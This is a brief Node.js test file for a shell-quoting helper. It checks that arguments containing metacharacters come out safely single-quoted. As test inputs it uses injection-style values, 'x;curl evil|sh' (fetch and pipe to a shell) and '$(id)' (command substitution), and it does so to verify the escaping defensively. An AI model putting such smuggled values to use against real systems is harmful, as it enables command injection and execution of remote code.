import assert from "node:assert/strict";
import { test } from "node:test";
import { shell, shellOptions } from "./shell-text.ts";

test("a shell reads each word as one argument, whatever it contains", () => {
  const flags = shellOptions([
    ["actor", "x;curl evil|sh"],
    ["overdue", null],
    ["target", "true"],
    ["error", "it's late"],
  ]);
  const command = shell`audit ${"01-a"}${flags} ${"$(id)"} ${"=ls"} ${"a=b"} ${""}`;
  assert.equal(
    command.text,
    `audit 01-a --actor 'x;curl evil|sh' --overdue --target true --error 'it'\\''s late' '$(id)' '=ls' a=b ''`,
  );
});
